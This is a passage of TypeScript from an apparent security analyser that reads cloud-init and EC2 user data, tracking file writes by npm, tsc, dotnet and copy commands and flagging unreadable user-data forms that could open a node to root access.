            runs.push({
                words: command.map(w => w.replaceAll("{}", start)),
                cwd: inDirectory ? (cwd === undefined ? undefined : posix.dirname(posix.resolve(cwd, start))) : cwd,
                found: true,
            });
        }
        j = end < 0 ? words.length : end;
    }
    return [{ words: own, cwd, found: false }, ...runs];
}
/**
 * A Jupyter executable run from an installation prefix X (`X/bin/jupyter lab`, `X/bin/jupyter-lab`, `X/bin/python3 -m
 * jupyterlab`): Jupyter searches X/etc/jupyter ({sys.prefix}/etc/jupyter, Jupyter docs "Common Directories and File
 * Locations"). Like the environment, tied to every Jupyter server of the script.
 */
const JUPYTER_EXECUTABLES =
    /(\/[^\s;&|'"`$()]*)\/bin\/(?:jupyter[\w-]*|python[0-9.]*\s+(?:-\S+\s+)*-m\s*(?:jupyter\w*|notebook|nbclassic|kernel_gateway|enterprise_gateway))(?=\s|$)/gm;

/**
 * The node's judge (nodeJudge) for one user data with its ScriptView, built as the reader goes through its commands in
 * order: a file is changed (content unknown) once root writes it with content the reader cannot know (a program's
 * output, a download), puts a fragment into it (sed's replacement, an append), or runs a command naming it (as a word
 * or inside one, such as `python3 -c "open('FILE', 'a')..."`) other than a keeper (keepsContent), a server reading it as
 * `--config`, or a copy only reading it (rootReads.ts copiedSources: `cp FILE FILE.orig`): sed -i deleting lines,
 * perl -i, ed, an editor of its own. Writing its whole content again (write_files, a heredoc) makes it known, unless
 * the script appends to it anywhere (`appended`: every `>>` or `tee -a` the shell reader resolves, relative names
 * against the working directory a `cd` set): an append after a server starts is read at its next start. Environment
 * values are every VIEWED_VARIABLES assignment in `texts`; one not an absolute literal path (a variable, a command
 * substitution, `~`, a relative path) is undefined, but Spring Boot's (SPRING_*, SERVER_ADDRESS|PORT) and
 * npm_config_node_options, kept as written unless they hold an expansion.
 */
function viewingJudge(
    texts: readonly string[],
    appended: ReadonlySet<string>,
): NodeJudge & {
    view: ScriptView;
    settled(): NodeOpening[];
    ran(
        words: readonly string[],
        how: string,
        cwd?: string,
        fileText?: (path: string) => string | undefined,
        nonRoot?: boolean,
        known?: Pick<ScriptView, "aspNetEnvironments">,
    ): NodeOpening[];
} {
    const changedFiles = new Set<string>();
    // Directories a copy, extraction or download wrote names into the pack cannot know (copiedDestinations), and the
    // files under them written whole since.
    const changedTrees = new Set<string>();
    // Paths a command other than a CONTENT_KEEPERS one names, or runs in (its working directory): whole trees it may
    // have replaced, moved, linked or filled (`git clone URL DIR`, `git -C /root clone URL .jupyter`, `7z x -oDIR`,
    // `rm -rf DIR && ln -s TARGET DIR`, `cd DIR && cpio -i`), fail-closed whatever the command (a working directory
    // but for keepsWorkingDirectory's programs) (git(1) -C "Run as if git was started in <path>"; GNU cpio "Copy-in
    // mode" extracts into the working directory; 7-Zip's -o{dir_path} "destination directory where files are to be
    // extracted"; Python's `-m zipfile -e <zipfile> <output_dir>`).
    const namedTrees = new Set<string>();
    const rewritten = new Set<string>();
    // The text of each file in `rewritten`, as written whole.
    const contents = new Map<string, string>();
    // Every configuration text judged (configured), judged again once the script ends (settled).
    const configuredTexts: [string, string][] = [];
    const under = (path: string, dir: string) => dir === "/" || path.startsWith(`${dir}/`);
    const changeTree = (dir: string) => {
        changedTrees.add(dir);
        for (const path of rewritten) if (under(path, dir)) rewritten.delete(path);
    };
    const changed = {
        has: (path: string, within?: string) =>
            changedFiles.has(path) ||
            (!rewritten.has(path) &&
                ([...changedTrees].some(dir => under(path, dir)) ||
                    [...namedTrees].some(dir => under(path, dir) && (within === undefined || !under(within, dir))))),
    };
    const environment = new Map<string, (string | undefined)[]>();
    for (const text of texts)
        for (const [, variable, raw] of text.matchAll(VIEWED_VARIABLES)) {
            const value = raw.replace(/^(["'])(.*)\1$/, "$2");
            const values = environment.get(variable) ?? [];
            // Spring Boot's properties (springStaticListeners) and npm's node-options (nodeOptionsLoading) as written;
            // the others are paths.
            if (/^(SPRING_|SERVER_|GO|CARGO|RUST)|^npm_config_node_options$/i.test(variable))
                values.push(/[$`]/.test(value) ? undefined : value);
            else values.push(/^\/[^$`]*$/.test(value) ? posix.normalize(value) : undefined);
            environment.set(variable, values);
        }
    const jupyterPrefixes = [
        ...new Set(texts.flatMap(text => [...text.matchAll(JUPYTER_EXECUTABLES)].map(m => posix.normalize(m[1])))),
    ];
    // What each file is a copy of, in the order user data makes them (copiedFrom, against each command's working
    // directory; a download to standard output by the file its output goes to), added to the absolute paths the lines
    // name (scriptDownloads): names only add up, so a unit judged once every file is seen has them all.
    const downloads = scriptDownloads(texts);
    const copied = (path: string, from: string) => {
        const names = REMOTE_URL.test(from)
            ? [sourceName(from)]
            : [posix.basename(from), ...(downloads.get(posix.normalize(from)) ?? [])];
        const had = downloads.get(path) ?? [];
        downloads.set(path, [...had, ...names.filter(n => n !== "" && !had.includes(n))]);
    };
    /** A download to standard output (curl without -o/-O, wget -O -) and the command it is, for its redirection. */
    let printed: { how: string; urls: string[] } | undefined;
    const built = new Map<string, Listener[]>();
    const view: ScriptView = {
        built,
        changed,
        environment,
        jupyterPrefixes,
        javaReleases: installedJavaReleases(texts),
        written: () => [...rewritten, ...changedFiles],
        text: path => (rewritten.has(path) && !changed.has(path) ? contents.get(path) : undefined),
        downloads,
    };
    /** Marks what one command changes (findRuns: each command find runs is judged as itself). */
    const judgeRun = ({ words, cwd, found }: JudgedRun, fileText?: (path: string) => string | undefined) => {
        const program = posix.basename(words[0] ?? "");
        const onlyRead = new Set(copiedSources(words, cwd ?? "/"));
        // `install -d` only makes directories (GNU coreutils "install invocation": -d "Create any missing parent
        // directories"), as mkdir does.
        const makesDirectories =
            program === "install" && words.some(w => w === "--directory" || /^-[A-Za-z]*d[A-Za-z]*$/.test(w));
        // npm ci/install in DIR write DIR/node_modules, and install DIR/package-lock.json (package.json too when it
        // names packages to add: `npm install express` saves it); DIR's other files are not npm's to change. The root
        // package's lifecycle scripts are judged by `ran` (packageScripts).
        // tsc writes its outputs only (tscWrites).
        const npm =
            npmInstallWrites(words, cwd, fileText, view) ??
            tscWrites(words, cwd, fileText) ??
            dotnetBuildWrites(words, cwd, [...rewritten, ...changedFiles], dir => changed.has(`${dir}/`));
        if (npm !== undefined) {
            npm.trees.forEach(changeTree);

            for (const path of npm.files) {
                changedFiles.add(path);
                rewritten.delete(path);
            }
            return;
        }
        if (!keepsContent(words) && !makesDirectories) {
            const named = (path: string) => {
                const normal = posix.normalize(path);
                if (onlyRead.has(normal)) return;
                changedFiles.add(normal);
                namedTrees.add(normal);
                for (const p of rewritten) if (under(p, normal)) rewritten.delete(p);
            };
            // Its working directory, fail closed: unless it is a copy the pack reads, which writes only its
            // destinations (copiedSources, copiedDestinations: unpackers writing into their working directory, `/`
            // included, are among them), or a program that writes nothing relative to it (keepsWorkingDirectory).
            // `/` is the script's own start (cloud-init's runcmd and scripts run there), where only the unpackers
            // count: any other program there would make every file unknown. A working directory the pack cannot
            // compute (`cd "$HOME"`: systemd.exec(5) sets $HOME only for units with User=, and `cd ""` stays put)
            // may be any directory: every tree is changed.
            const destinations = copiedDestinations(words, cwd ?? "/");
            const readCopy = onlyRead.size > 0 || destinations.files.length + destinations.trees.length > 0;
            const keepsCwd = keepsWorkingDirectory(words);
            if (cwd === undefined && !keepsCwd) changeTree("/");
            else if (cwd !== undefined && cwd !== "/" && !readCopy && !keepsCwd) named(cwd);
            words.slice(1).forEach((w, i) => {
                // A server's --config and a variable's value name a file without changing it.
                if (/^--config(=|$)|^[A-Za-z_]\w*=/.test(w) || words[i] === "--config") return;
                const glued = /^--[\w-]+=([^-\s][^\s]*)$|^-[A-Za-z]([^\s=]*\/[^\s]*)$/.exec(w);
                const operand = /^[^\s-][^\s]*$/.test(w) ? w : (glued?.[1] ?? glued?.[2]);
                const resolved = operand === undefined ? [] : [posix.resolve(cwd ?? "/", operand)];
                for (const path of [...resolved, ...(w.match(/\/[^\s'"`;|&<>(),]+/g) ?? [])]) named(path);
            });
        }
        // A copy into a directory writes the files under it: by the sources' names, or any name (a found file's,
        // under find).
        const { files, trees } = copiedDestinations(words, cwd ?? "/");
        const anyName = found ? files.filter(dir => files.some(f => posix.dirname(f) === dir)) : [];
        for (const path of files) if (!anyName.includes(posix.dirname(path))) changedFiles.add(path);
        [...trees, ...anyName].forEach(changeTree);
    };
    return {
        ...nodeJudge,
        view,
        // A configuration read with what the script changed (configFileServers: an included file it downloaded).
        configured: (text, how) => {
            configuredTexts.push([text, how]);
            return nodeJudge.configured(text, how, view);
        },
        // Once the script ends (a server starts on the files' final state; lighttpd docs "Configuration File Syntax":
        // `include` is read at start): every configuration's file servers judged again with what changed after it was
        // written (an include edited later, an import written later), and the packaged configuration's includes
        // (PACKAGED_INCLUDES) holding a file user data changed so the pack cannot read it: any directory, every address.
        settled: () => [
            ...configuredTexts.flatMap(([text, how]) => listenerOpenings(configFileServers(text, view), how)),
            ...PACKAGED_INCLUDES.flatMap(([server, glob]) => {
                const file = includeUnknown(glob, view, true);
                return file === undefined
                    ? []
                    : listenerOpenings(
                          [
                              {
                                  server: `${server} (its packaged configuration includes ${glob})`,
                                  binds: [],
                                  serves: { files: undefined },
                              },
                          ],
                          `${file}, a configuration file user data downloaded, copied or edited so the pack cannot read it`,
                      );
            }),
        ],
        written(path, content, how, edit) {
            if (content === undefined || edit || appended.has(path)) {
                changedFiles.add(path);
                rewritten.delete(path);
                contents.delete(path);
            } else {
                changedFiles.delete(path);
                rewritten.add(path);
                contents.set(path, content);
            }
            // `curl URL > FILE` (curl(1): "curl writes the received data to stdout" unless told otherwise), `| tee
            // FILE`: the file is the download, by the command's own redirection (written after it ran, same `how`).
            if (content === undefined && printed?.how === how) for (const url of printed.urls) copied(path, url);
            return nodeJudge.written(path, content, how, edit);
        },
        ran(
            words: readonly string[],
            how: string,
            cwd?: string,
            fileText?: (path: string) => string | undefined,
            nonRoot?: boolean,
            known?: Pick<ScriptView, "aspNetEnvironments">,
        ) {
            const out = nodeJudge.ran(words, how, cwd, fileText, nonRoot, { ...view, ...known });
            for (const [path, from] of copiedFrom(words, cwd ?? "/")) copied(path, from);
            printed = downloadPrinted(words, how);
            // Programs it builds from sources the pack reads, judged as they are when it reads them (builtPrograms).
            for (const [path, listeners] of builtPrograms(words, cwd, fileText, view) ?? []) built.set(path, listeners);
            // A copy of a built program (`install -m 0755 target/release/NAME /usr/local/bin/NAME`) runs the same code.
            const copier = posix.basename(words[0] ?? "");
            const operands = words
                .slice(1)
                .filter(
                    (w, i) =>
                        !w.startsWith("-") && !/^-[mogt]$|^--(mode|owner|group|target-directory)$/.test(words[i] ?? ""),
                );
            if (/^(cp|install|mv|ln|rsync)$/.test(copier) && operands.length >= 2) {
                const destination = servedDirectory(operands.at(-1), cwd ?? "/");
                const builtCopies = operands.slice(0, -1).flatMap(source => {
                    const path = servedDirectory(source, cwd ?? "/");
                    const listeners = builtListeners(path, view);
                    return path !== undefined && listeners.length + (built.has(path) ? 1 : 0) > 0
                        ? [{ path, listeners }]
                        : [];
                });
                for (const { path, listeners } of builtCopies)
                    if (destination !== undefined) {
                        built.set(destination, listeners);
                        built.set(posix.join(destination, posix.basename(path)), listeners);
                    }
            }
            // With the options its configuration files give it (pip.conf's target, curl -K's output); one the pack
            // cannot read may send its writes anywhere.
            const configured = configuredWords(
                words,
                fileText ?? (() => undefined),
                changed.has,
                [...rewritten, ...changedFiles],
                cwd,
            );
            if (configured === undefined) changeTree("/");
            for (const run of findRuns(configured ?? words, cwd)) judgeRun(run, fileText);
            // The root package's lifecycle scripts npm ci/install run (packageScripts), each a command of its own in
            // the package's directory: one the reader cannot split into words (a shell line) may change anything.
            const lifecycle =
                npmInstallWrites(words, cwd, fileText, view) &&
                packageScripts(posix.basename(words[0]), words.slice(1), cwd, fileText, view);
            if (lifecycle && lifecycle.unread !== undefined) changeTree("/");
            else if (lifecycle)
                for (const [, line] of lifecycle.around)
                    if (/[;&|<>$`(){}\\*?~\n]/.test(line)) changeTree("/");
                    else for (const run of findRuns(quotedWords(line), lifecycle.dir)) judgeRun(run, fileText);
            return out;
        },
    };
}

/**
 * What `npm ci`/`npm install`, `pnpm install` and `yarn install` (PACKAGE_INSTALLS, with only options packageScripts
 * knows) write in the package's directory DIR (the working directory or --prefix/-C/--dir/--cwd's): the tree
 * DIR/node_modules and the manager's own writes (PACKAGE_INSTALLS), and for install its lock file, and
 * DIR/package.json when it names packages to add (npm docs "npm install": saves to dependencies by default). npm ci
 * "will never write to package.json or any of the package-locks" (npm docs "npm ci"). Undefined for any other command,
 * or one with an option the pack does not know (-g, --workspace, a config file: judged as any command, fail closed).
 * The dependencies' own install scripts are third-party packages' code, as with the packages `dnf install` or `pip
 * install` put in place (rootReads.ts keepsWorkingDirectory: the package managers are not judged by what their
 * packages' scripts do); the root package's own scripts are the script's, judged as commands (viewingJudge's `ran`)
 * and as listeners (nodeFileServerListeners via packageScripts).
 */
function npmInstallWrites(
    words: readonly string[],
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): { dir: string; trees: string[]; files: string[] } | undefined {
    const manager = posix.basename(words[0] ?? "");
    const installs = PACKAGE_INSTALLS[manager];
    if (installs === undefined) return undefined;
    const options = PACKAGE_MANAGER_OPTIONS[manager];
    // A global install writes the global prefix, not the working directory (npmGlobalPrefix).
    const prefix = manager === "npm" ? npmGlobalPrefix(words.slice(1), cwd, fileText, view) : undefined;
    if (prefix !== undefined)
        return { dir: prefix, trees: [posix.join(prefix, "lib/node_modules"), posix.join(prefix, "bin")], files: [] };
    let dir = cwd;
    const operands: string[] = [];
    for (let i = 1; i < words.length; i++) {
        const w = words[i];
        if (!w.startsWith("-") || w === "-") {
            operands.push(w);
            continue;
        }
        const [, name, glued] = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w) ?? [undefined, w, undefined];
        if (options.dir.test(name) || options.value.test(name)) {
            const value = glued ?? words[++i];
            if (value === undefined) return undefined;
            if (options.dir.test(name))
                dir = cwd === undefined && !value.startsWith("/") ? undefined : posix.resolve(cwd ?? "/", value);
        } else if (!options.flag.test(name) || glued !== undefined) return undefined;
    }
    const [command, ...packages] = operands;
    if (dir === undefined || !(installs.commands.test(command ?? "") || (manager === "yarn" && command === undefined)))
        return undefined;
    const install = !installs.clean.test(command ?? "install");
    return {
        dir,
        trees: [posix.join(dir, "node_modules"), ...installs.trees.map(t => posix.join(dir, t)), ...installs.home],
        files: install
            ? [
                  posix.join(dir, installs.lock),
                  ...installs.files.map(f => posix.join(dir, f)),
                  ...(packages.length > 0 ? [posix.join(dir, "package.json")] : []),
              ]
            : [],
    };
}

/**
 * The project and output of `dotnet build|publish ARGS` (MS Learn "dotnet build", "dotnet publish": the options that
 * take a value, `-o|--output`, the one PROJECT|SOLUTION operand); `unread` when an option or operand is none of those
 * or of the flags known not to write elsewhere.
 */
function dotnetBuildArguments(args: readonly string[]): { project?: string; output?: string; unread: boolean } {
    const VALUED =
        /^(-c|--configuration|-o|--output|-f|--framework|-r|--runtime|-v|--verbosity|--os|-a|--arch|--version-suffix|--source|-s)$/;
    const FLAGS =
        /^(--no-restore|--no-dependencies|--nologo|--self-contained|--no-self-contained|--no-incremental|--no-build|-tl|--sc)$/;
    let project: string | undefined;
    let output: string | undefined;
    let unread = false;
    for (let i = 0; i < args.length; i++) {
        const [flag, glued] = args[i].split(/=(.*)/s);
        if (VALUED.test(flag)) {
            const value = glued ?? args[++i];
            if (/^(-o|--output)$/.test(flag)) output = value;
        } else if (!args[i].startsWith("-") && project === undefined) project = args[i];
        else if (!FLAGS.test(flag)) unread = true;
    }
    return { project, output, unread };
}

/**
 * What `dotnet build|publish [PROJECT] [-o OUT]` writes (MS Learn "dotnet build": "The output directory to place built
 * artifacts in", default bin/; "dotnet publish"; MSBuild obj/ intermediates) of a project whose project file user data
 * wrote in a directory it did not change: the trees obj/ and bin/, and in OUT the build's outputs, which are the
 * assemblies and a copy of each Content/None item (MS Learn "Common MSBuild project items" CopyToOutputDirectory; the Web
 * SDK's appsettings*.json and **\/*.json, *.config): each file user data wrote under the project but its sources and
 * project files is changed in OUT at the same relative path (fail closed on what it holds); OUT's other names are the
 * build's. Undefined for any other command or an option the pack does not know.
 */
function dotnetBuildWrites(
    words: readonly string[],
    cwd: string | undefined,
    written: readonly string[],
    changedIn: (dir: string) => boolean,
): { trees: string[]; files: string[] } | undefined {
    if (posix.basename(words[0] ?? "") !== "dotnet" || !/^(build|publish)$/.test(words[1] ?? "") || cwd === undefined)
        return undefined;
    const { project, output, unread } = dotnetBuildArguments(words.slice(2));
    if (unread) return undefined;
    const dir = posix.resolve(
        cwd,
        project === undefined || !/proj$/i.test(project) ? (project ?? ".") : posix.dirname(project),
    );
    const out = output === undefined ? undefined : posix.resolve(cwd, output);
    if (!written.some(path => posix.dirname(path) === dir && DOTNET_PROJECT.test(path)) || changedIn(dir))
        return undefined;
    return {
        trees: [posix.join(dir, "obj"), posix.join(dir, "bin")],
        files: written.flatMap(path => {
            const rel = posix.relative(dir, path);
            return out === undefined ||
                rel.startsWith("..") ||
                /^(bin|obj)\//.test(rel) ||
                /\.(cs|fs|vb)(proj)?$/i.test(rel) ||
                /^Directory\.Build\./i.test(posix.basename(rel))
                ? []
                : [posix.join(out, rel)];
        }),
    };
}

/**
 * What the TypeScript compiler writes (TypeScript handbook "tsc CLI Options", "What is a tsconfig.json": `tsc -p DIR`
 * or `--project FILE` compiles the project of that tsconfig.json; a compiler, listening nowhere): with its options
 * read, the emitted files go to compilerOptions.outDir (and declarationDir, outFile, tsBuildInfoFile), each relative to
 * the tsconfig.json, or beside each source when there is no outDir; `noEmit` writes nothing. From a tsconfig.json user
 * data wrote, with its bases (tsconfigOptions); one the pack cannot read may name any, so the project's directory is changed
 * (fail closed); so is the working directory for tsc without -p (it looks for tsconfig.json from there up the parent
 * directories) unless user data wrote the working directory's. Undefined for any other command or one with an option
 * the pack does not know: judged as any command.
 */
function tscWrites(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
): { trees: string[]; files: string[] } | undefined {
    if (posix.basename(words[0] ?? "") !== "tsc" || cwd === undefined) return undefined;
    let project: string | undefined;
    const given: Record<string, unknown> = {};
    for (let i = 1; i < words.length; i++) {
        const w = words[i];
        if (/^(-p|--project)$/.test(w)) project = words[++i];
        else if (/^--(outDir|declarationDir|outFile|tsBuildInfoFile)$/.test(w)) given[w.slice(2)] = words[++i];
        else if (w === "--noEmit") given.noEmit = true;
        else if (
            !/^(--pretty|-w|--watch|--incremental|--listFiles|--diagnostics|--extendedDiagnostics|--skipLibCheck|--noEmitOnError|--sourceMap|--declaration|--strict)$/.test(
                w,
            )
        )
            return undefined;
    }
    // Without -p, the nearest tsconfig.json up from the working directory: the working directory's when user data wrote
    // it; otherwise one the pack cannot see, read as any command (its working directory changed).
    if (project === undefined && fileText?.(posix.join(cwd, "tsconfig.json")) === undefined)
        return { trees: [cwd], files: [] };
    const path = posix.resolve(cwd, project ?? ".");
    const file = path.endsWith(".json") ? path : posix.join(path, "tsconfig.json");
    const dir = posix.dirname(file);
    const options = tsconfigOptions(file, fileText);
    if (options === undefined) return { trees: [dir], files: [] };
    // The command line's, relative to the working directory (TypeScript handbook "tsc CLI Options").
    const all: Record<string, unknown> = { ...options };
    for (const [key, value] of Object.entries(given))
        all[key] = typeof value === "string" ? posix.resolve(cwd, value) : value;
    if (all.noEmit === true) return { trees: [], files: [] };
    const named = (key: string) => (typeof all[key] === "string" ? (all[key] as string) : undefined);
    const outDir = named("outDir");
    if (outDir === undefined && named("outFile") === undefined) return { trees: [dir], files: [] };
    return {
        trees: [outDir, named("declarationDir")].filter((t): t is string => t !== undefined),
        files: [named("outFile"), named("tsBuildInfoFile")].filter((f): f is string => f !== undefined),
    };
}

/**
 * A tsconfig.json's compilerOptions as tsc resolves them, the path options (TSCONFIG_PATHS) made absolute from the file
 * that sets them (TSConfig reference "extends": "The configuration from the base file are loaded first, then overridden
 * by those in the inheriting config file. All relative paths found in the configuration file will be resolved relative
 * to the configuration file they originated in"; an array's later bases override earlier ones). A base by path is read
 * when user data wrote it, recursively; a base from an installed package (a bare name through node_modules: a
 * dependency, trusted as its install scripts are, npmInstallWrites) may set anything, so the project's own file must
 * set outDir or outFile, which then say where the JavaScript goes. Undefined when the pack cannot know: a file it did
 * not write or cannot parse, a base by path it did not write, a package base the project's own options do not override.
 */
const TSCONFIG_PATHS = ["outDir", "declarationDir", "outFile", "tsBuildInfoFile", "rootDir"];
function tsconfigOptions(
    file: string,
    fileText: ((path: string) => string | undefined) | undefined,
    depth = 0,
): Record<string, unknown> | undefined {
    const text = fileText?.(file);
    if (text === undefined || depth > 8) return undefined;
    let config: { extends?: unknown; compilerOptions?: Record<string, unknown> };
    try {
        config = JSON.parse(jsWithoutComments(text).replace(/,(\s*[}\]])/g, "$1")) as typeof config;
    } catch {
        return undefined;
    }
    const own: Record<string, unknown> = { ...(config.compilerOptions ?? {}) };
    for (const key of TSCONFIG_PATHS)
        if (typeof own[key] === "string") own[key] = posix.resolve(posix.dirname(file), own[key] as string);
    const bases = config.extends === undefined ? [] : Array.isArray(config.extends) ? config.extends : [config.extends];
    let merged: Record<string, unknown> = {};
    let packaged = false;
    for (const base of bases) {
        if (typeof base !== "string") return undefined;
        if (!/^[./]/.test(base)) {
            packaged = true;
            continue;
        }
        const path = posix.resolve(posix.dirname(file), base);
        const options = tsconfigOptions(
            path.endsWith(".json") || fileText?.(path) !== undefined ? path : `${path}.json`,
            fileText,
            depth + 1,
        );
        if (options === undefined) return undefined;
        merged = { ...merged, ...options };
    }
    if (packaged && typeof own.outDir !== "string" && typeof own.outFile !== "string") return undefined;
    return { ...merged, ...own };
}

/**
 * The files user data appends to anywhere (`>>`, `tee -a`), as the shell reader resolves them (a `cd`'s working
 * directory, variables): a first reading of its root texts that only collects them (viewingJudge's `appended`).
 */
function appendedFiles(texts: readonly RootText[], accounts: NodeAccounts): Set<string> {
    const appended = new Set<string>();
    const collect: NodeJudge = {
        ...nodeJudge,
        written: (path, _content, _how, _edit, append) => (append && appended.add(path), []),
        ran: () => [],
        configured: () => [],
    };
    rootReadOpenings(texts, "user data", collect, accounts);
    return appended;
}

const unreadable = (what: string, why: string): NodeOpening => ({
    who: "whatever it sets",
    what: `${what} cannot be read (${why}): the instance's own reader may accept it, so what it opens is unknown; write it in a form that parses`,
});
/** User data, or a part of it, the pack cannot read: on any instance a relay or served shell in it would go unseen. */
const unreadableOnAnyInstance = (o: NodeOpening): NodeOpening => ({ ...o, anyInstance: { who: o.who, what: o.what } });
/**
 * User data in none of the forms above: cloud-init acts on none of it ("User data that will be acted upon by
 * cloud-init must be in one of the following types"), but another reader may run it as root, unread here: on Windows
 * EC2Launch v2, EC2Launch and EC2Config run <powershell> and <script> blocks (EC2 Windows guide, "Run commands on your
 * Windows instance at launch"; <persist> reruns them at each boot), EC2Launch v2 a YAML task list, Ignition its JSON.
 * Its words are still read best-effort (scriptOpenings, rootReadOpenings); the part is refused besides, unless it is
 * inert data (inertData).
 */
const OTHER_TEXT = unreadableOnAnyInstance({
    who: "whatever reads it on the instance",
    what: "user data is none of the forms the pack reads (cloud-config, a #! script or #cloud-boothook, MIME multi-part, #cloud-config-archive, #include, a ## template: jinja, a nodeadm NodeConfig, Bottlerocket TOML; each also base64 or gzip) nor JSON or YAML data without the marks of a format something runs: another reader may run it as root (on Windows, EC2Launch runs <powershell> and <script> blocks, EC2Launch v2 a task document with `tasks`; Ignition a JSON with `ignition`), so what it opens is unknown. Write it in one of those forms, or launch the instance with a profile that reaches no custody asset",
});

/**
 * Text in none of the forms the pack reads that nothing on the instance runs: a JSON or YAML mapping or list (an
 * application's settings, read by the application from instance metadata) with none of the marks of a format some
 * reader acts on. cloud-init ignores user data in none of its formats ("User data formats": "User data that will be
 * acted upon by cloud-init must be in one of the following types"; the types are sniffed from the start, cloudinit/
 * handlers type_from_starts_with), EC2Config and EC2Launch run only what is inside <script>/<powershell> tags (EC2
 * Windows guide, "Run commands on your Windows instance at launch": "you must enclose the script within a special
 * tag"; <persist>), EC2Launch v2 a task document (`version` and `tasks`: EC2Launch v2 task configuration), Ignition a
 * config with an `ignition` object (Ignition "Configuration Specification"), nodeadm a NodeConfig. A mark anywhere
 * (a tag inside a string, a `tasks` key without `version`) keeps the text refused.
 */
function inertData(text: string): boolean {
    if (/<\/?\s*(powershell|script|persist)\b/i.test(text) || /NodeConfig|node\.eks\.aws/.test(text)) return false;
    let data: unknown;
    try {
        data = JSON.parse(text);
    } catch {
        try {
            const docs = yamlDocs(text, "user data");
            if (docs.length !== 1) return false;
            data = docs[0];
        } catch {
            return false;
        }
    }
    if (data === null || typeof data !== "object") return false;
    // EC2Launch v2 `tasks`, Ignition `ignition`, Talos machine configuration `machine` (Talos docs "AWS": the
    // controlplane/worker YAML is the user data; its machine.pods are static pods the kubelet runs).
    return Array.isArray(data) || !Object.keys(data).some(k => /^(tasks|ignition|machine)$/i.test(k));
}

/**
 * Every way into the node that user data opens. `raw` holds the user data fields as the resource carries them;
 * `base64` says whether they are base64 by definition (a launch template's userData, any userDataBase64).
 */
/**
 * The node's accounts a cloud-config makes (cloud-init "Users and Groups"): users with `sudo` (anything but false) or
 * an admin group (wheel, sudo, adm, root) are root in effect, and each user's home is its `homedir` or /home/<name>.
 * Keys are normalised like cloud-init (`-` to `_`).
 */
function cloudConfigAccounts(body: string, into: { sudoers: Set<string>; homes: Map<string, string> }) {
    for (const doc of yamlDocs(body, "a cloud-config part")) {
        const c = obj(doc);
        for (const u of cloudConfigUsers(c)) {
            const name = typeof u.name === "string" ? u.name : undefined;
            if (!name) continue;
            const groups = (Array.isArray(u.groups) ? u.groups.map(String) : String(u.groups ?? "").split(","))
                .map(g => g.trim())
                .filter(Boolean);
            if (
                (u.sudo !== undefined && u.sudo !== false && u.sudo !== null && String(u.sudo) !== "False") ||
                groups.some(g => /^(wheel|sudo|adm|root)$/.test(g))
            )
                into.sudoers.add(name);
            // A second uid 0 (cloud-init users `uid: 0`) is root under another name.
            if (u.uid !== undefined && Number(u.uid) === 0) into.sudoers.add(name);
            into.homes.set(name, typeof u.homedir === "string" ? u.homedir : `/home/${name}`);
        }
    }
}

export function userDataOpenings(raw: readonly { text: string; base64: boolean }[]): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const { text: value, base64 } of raw) {
        // This user data's openings start here: its loopback listeners and forwarders are joined at its end.
        const start = out.length;
        let parts: Part[];
        try {
            parts = partsOf(decode(value, base64));
        } catch (e) {
            out.push(unreadableOnAnyInstance(unreadable("user data", (e as Error).message)));
            continue;
        }
        const rootTexts: RootText[] = [];
        const accounts = { sudoers: new Set(DEFAULT_ACCOUNTS.sudoers), homes: new Map(DEFAULT_ACCOUNTS.homes) };
        for (let i = 0; i < parts.length; i++) {
            const part = parts[i];
            // Inert data (an application's JSON or YAML settings) is run by no reader: nothing to judge.
            if (part.kind === "text" && inertData(part.body)) continue;
            try {
                if (part.kind === "include")
                    out.push({
                        who: "whoever serves the included URL",
                        what: "user data includes content fetched at boot (cloud-init #include), which runs on the node as root and which the pack cannot read",
                    });
                else if (part.kind === "unreadable")
                    out.push(
                        unreadableOnAnyInstance({
                            who: "whatever cloud-init makes of it",
                            what: `user data has ${part.body}, which cloud-init applies as root and the pack cannot read; write the cloud-config itself`,
                        }),
                    );
                else if (part.kind === "template")
                    out.push(
                        unreadableOnAnyInstance({
                            who: "whatever the template computes",
                            what: "user data is a Jinja template (## template: jinja) with expressions other than plain instance-data variables: cloud-init renders it into what root runs, which the pack cannot read; write the text itself, using only variables such as {{ v1.instance_id }}",
                        }),
                    );
                else if (part.kind === "text" && part.body.trim() !== "") out.push(OTHER_TEXT);
                else if (part.kind === "archive") parts.push(...archiveParts(part.body));
                else if (part.kind === "nodeconfig") out.push(...nodeConfigOpenings(part.body));
                else if (part.kind === "bottlerocket") out.push(...bottlerocketOpenings(part.body));
                else if (part.kind === "cloud-config") {
                    cloudConfigAccounts(part.body, accounts);
                    const { openings, texts } = cloudConfigOpenings(part.body);
                    out.push(...openings, ...texts.flatMap(t => scriptOpenings(t.settings)));
                    rootTexts.push(...texts);
                }
                // Free-text reading covers what a structured part may also say in another form (a bootstrap command's
                // apiclient call, a nested key); NodeConfig objects are fully typed and read above.
                if (part.kind !== "nodeconfig")
                    out.push(
                        ...scriptOpenings(
                            part.body,
                            part.kind !== "cloud-config" && part.kind !== "bottlerocket",
                            // Bottlerocket TOML is read whole above: a superpowered container that is off runs nothing.
                            part.kind === "bottlerocket",
                        ),
                    );
                if (part.kind === "script" || part.kind === "text") rootTexts.push({ text: part.body, settings: "" });
            } catch (e) {
                out.push(
                    unreadableOnAnyInstance(unreadable(`user data part ${i + 1} (${part.kind})`, (e as Error).message)),
                );
            }
        }
        // Every part's root-read text together: a unit written by one part and its drop-in by another are one unit. The
        // unit files written are kept for the socket units (socketShellOpenings).
        const units: { path: string; text: string }[] = [];
        // Every file user data writes, with its content as last written whole, null once changed in a way the pack
        // cannot compute (a socket unit's served scripts: socketShellOpenings). A file it never writes is the AMI's.
        const writtenText = new Map<string, string | null>();
        const viewing = viewingJudge(
            [...parts.map(p => p.body), ...rootTexts.map(t => t.text)],
            appendedFiles(rootTexts, accounts as NodeAccounts),
        );
        const given = environmentGiven(
            rootTexts.map(t => t.text),
            [...parts.map(p => p.body), ...rootTexts.map(t => t.text)],
        );
        // The manager's environment takes variables of the script's own (systemctl(1) import-environment; dbus's
        // --systemd updates it alike), whose values the pack does not know.
        const importsEnvironment = rootTexts.some(t =>
            /\bimport-environment\b|dbus-update-activation-environment\b[^\n]*--systemd/.test(t.text),
        );
        const judge: NodeJudge = {
            ...viewing,
            // What an unread root program's environment makes it listen on (environmentListeners); units' Exec lines
